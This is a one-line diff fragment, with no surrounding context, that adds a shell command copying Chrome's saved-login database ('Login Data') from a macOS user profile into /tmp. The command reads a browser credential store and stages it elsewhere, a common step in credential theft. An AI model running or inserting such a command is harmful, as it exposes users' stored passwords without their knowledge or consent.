@@ -1,0 +1,1 @@
+cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/l
